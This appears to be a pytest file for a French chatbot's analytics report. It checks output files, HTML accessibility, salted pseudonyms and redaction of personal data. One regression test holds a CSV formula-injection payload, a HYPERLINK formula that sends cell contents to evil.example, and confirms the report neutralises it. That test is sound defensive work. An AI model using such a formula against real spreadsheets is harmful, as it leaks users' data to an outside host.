"""``python -m bot report``: the files, one self-contained accessible HTML page, pseudonyms and redaction."""

from __future__ import annotations

import base64
import csv
import os
import subprocess
import sys
from datetime import datetime
from html.parser import HTMLParser
from pathlib import Path

import pytest

from bot.privacy import SALT_VARIABLE
from bot.report import build_report
from bot.stores.events import URL_VARIABLE, open_store
from tests.conftest import ROOT
from tests.report.known import PERIOD, SESSIONS
from tests.support.store_data import Say, Session, open_tracker_store, write_sessions

SALT = "une clé de pseudonymisation de test"
PERIOD_ARGS = ("--since", "2026-10-05", "--until", "2026-10-07")
PERIOD_START = datetime.fromisoformat("2026-10-05T12:00:00+00:00")
FILES = {
    "synthese.csv",
    "conversations_par_jour.csv",
    "conversations_par_jour.png",
    "besoins.csv",
    "besoins.png",
    "portes_par_territoire.csv",
    "portes_par_territoire.png",
    "portes_par_departement.csv",
    "parcours.csv",
    "parcours.png",
    "messages_avant_recommandation.csv",
    "messages_avant_recommandation.png",
    "messages_non_compris.csv",
    "conversations.csv",
    "rapport.html",
}
# What the generated conversations contain and no report file may: sender ids, a phone number, an e-mail.
PERSONAL = ("33612345678", "06 12 34 56 78", "jean.dupont", "web-1", "fb-1")


def run_report(url: str, out: Path, *args: str, salt: str | None = SALT) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": str(ROOT), URL_VARIABLE: url}
    env.pop(SALT_VARIABLE, None)
    if salt is not None:
        env[SALT_VARIABLE] = salt
    return subprocess.run(
        [sys.executable, "-m", "bot", "report", "--out", str(out), *args],
        capture_output=True,
        text=True,
        env=env,
        cwd=ROOT,
        timeout=300,
    )


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, delimiter=";"))


@pytest.fixture
async def store(database_url: str, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.delenv(URL_VARIABLE, raising=False)
    await write_sessions(open_tracker_store(database_url), SESSIONS)
    return database_url


class Page(HTMLParser):
    """The structure an accessibility check needs."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.tables: list[dict[str, int]] = []
        self.headings: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self.open.append(tag)
        if tag == "table":
            self.tables.append({"caption": 0, "th_col": 0, "th_row": 0, "tr_body": 0})
        elif tag == "caption":
            self.tables[-1]["caption"] += 1
        elif tag == "th":
            self.tables[-1]["th_col" if dict(attrs).get("scope") == "col" else "th_row"] += 1
        elif tag == "tr" and "tbody" in self.open:
            self.tables[-1]["tr_body"] += 1

    def handle_endtag(self, tag: str) -> None:
        while self.open and self.open.pop() != tag:
            pass

    def handle_data(self, data: str) -> None:
        if self.open and self.open[-1] in {"h1", "h2", "h3"} and data.strip():
            self.headings.append(f"{self.open[-1]}:{data.strip()}")


async def test_the_report_files_figures_and_page(store: str, tmp_path: Path) -> None:
    out = tmp_path / "rapport"
    result = run_report(store, out, *PERIOD_ARGS)
    assert result.returncode == 0, result.stderr
    assert result.stdout == f"7 conversation(s) du 05/10/2026 au 07/10/2026 : {out / 'rapport.html'}\n"
    assert result.stderr == ""
    assert {p.name for p in out.iterdir()} == FILES
    assert read_csv(out / "parcours.csv") == [
        ["Étape", "Conversations", "Part des conversations commencées"],
        ["Conversation commencée", "7", "100,0\u00a0%"],
        ["Besoin connu", "4", "57,1\u00a0%"],
        ["Recommandation donnée", "4", "57,1\u00a0%"],
    ]
    assert read_csv(out / "conversations_par_jour.csv") == [
        ["Jour", "Site web (API REST)", "WhatsApp", "Messenger", "Site web (widget)", "Total"],
        ["05/10/2026", "1", "1", "0", "1", "3"],
        ["06/10/2026", "0", "1", "1", "0", "2"],
        ["07/10/2026", "2", "0", "0", "0", "2"],
        ["Total", "3", "2", "1", "1", "7"],
    ]
    assert read_csv(out / "messages_non_compris.csv")[1:] == [
        ["euh", "2"],
        ["Je cherche un emploi, mon mail est [e-mail]", "1"],
        ["blablabla", "1"],
        ["xqzw [téléphone]", "1"],
    ]
    check_page((out / "rapport.html").read_text(encoding="utf-8"))
    department = read_csv(out / "portes_par_departement.csv")
    loiret = next(row for row in department if row[1] == "45")
    assert loiret[0] == "Loiret (45)"
    assert loiret[department[0].index("France Travail")] == "2"
    for path in out.iterdir():
        if path.suffix == ".png":
            assert path.read_bytes().startswith(b"\x89PNG")
        else:
            text = path.read_text(encoding="utf-8-sig")
            assert not [p for p in PERSONAL if p in text], path.name


def check_page(html: str) -> None:
    """One page, in French, with headings, captioned tables with header cells, and charts inside it."""
    page = Page()
    page.feed(html)
    assert page.tags[0] == ("html", {"lang": "fr"})
    assert "<title>Indicateurs du bot SPRO – du 05/10/2026 au 07/10/2026</title>" in html
    assert [h for h in page.headings if h.startswith("h1")] == [
        "h1:Indicateurs du bot d'orientation du SPRO Centre-Val de Loire"
    ]
    assert "h2:Où les personnes ont été orientées" in page.headings
    images = [attrs for tag, attrs in page.tags if tag == "img"]
    assert len(images) == 5
    for attrs in images:
        assert len(attrs["alt"] or "") > 40
        assert base64.b64decode(attrs["src"].removeprefix("data:image/png;base64,")).startswith(b"\x89PNG")
    # Nothing is loaded from elsewhere: no script, stylesheet link or remote source.
    assert not [tag for tag, attrs in page.tags if tag in {"script", "link", "iframe"}]
    assert not [attrs for _, attrs in page.tags if (attrs.get("src") or "").startswith(("http", "//"))]
    assert len(page.tables) == 8
    for table in page.tables:
        assert table["caption"] == 1 and table["th_col"] >= 2
        assert table["th_row"] == table["tr_body"]  # every body row has its header cell
    assert "Vierzon (18)" in html and "Mission locale" in html


async def test_pseudonyms_depend_on_the_salt_only(sqlite_url: str) -> None:
    await write_sessions(open_tracker_store(sqlite_url), SESSIONS)

    def people(salt: str) -> list[str]:
        return [c.person for c in build_report(open_store(sqlite_url), PERIOD, salt, True).conversations]

    first = people(SALT)
    assert first == people(SALT) and len(first) == 7 and len(set(first)) == 6
    assert not set(first) & set(people(SALT + " autre"))


async def test_without_a_salt_the_report_warns_and_says_so(sqlite_url: str, tmp_path: Path) -> None:
    await write_sessions(open_tracker_store(sqlite_url), SESSIONS)
    result = run_report(sqlite_url, tmp_path, *PERIOD_ARGS, salt=None)
    assert result.returncode == 0
    assert result.stderr.startswith("Attention : SPRO_ANALYTICS_SALT n'est pas défini")
    assert "aucune clé de pseudonymisation n'est configurée" in (tmp_path / "rapport.html").read_text()


def test_a_short_salt_is_refused(sqlite_url: str, tmp_path: Path) -> None:
    result = run_report(sqlite_url, tmp_path, salt="1234")
    assert result.returncode == 2
    assert result.stderr == "Erreur : SPRO_ANALYTICS_SALT est trop court (4 caractères, 16 au moins)\n"
    assert not (tmp_path / "rapport.html").exists()


def test_an_empty_store_gives_an_empty_report(sqlite_url: str, tmp_path: Path) -> None:
    result = run_report(sqlite_url, tmp_path, "--since", "7d")
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("0 conversation(s) du ")
    assert "Aucune conversation sur la période." in (tmp_path / "rapport.html").read_text()
    assert not list(tmp_path.glob("*.png"))


def test_a_period_that_ends_before_it_starts_is_refused(sqlite_url: str, tmp_path: Path) -> None:
    result = run_report(sqlite_url, tmp_path, "--since", "2026-10-07", "--until", "2026-10-05")
    assert result.returncode == 2
    assert result.stderr == "Erreur : période vide : du 07/10/2026 au 05/10/2026\n"


async def test_a_message_written_as_a_formula_stays_text_in_the_spreadsheet(sqlite_url: str, tmp_path: Path) -> None:
    """Issue 14: a message typed to the bot became a live link in messages_non_compris.csv."""
    formula = '=HYPERLINK("https://evil.example/?x="&A:A;"cliquez")'
    sessions = [Session(f"rest:{n}", PERIOD_START, steps=[Say(formula, "nlu_fallback")]) for n in range(2)]
    await write_sessions(open_tracker_store(sqlite_url), sessions)
    out = tmp_path / "rapport"
    assert run_report(sqlite_url, out, *PERIOD_ARGS).returncode == 0
    assert read_csv(out / "messages_non_compris.csv")[1:] == [["'" + formula, "2"]]
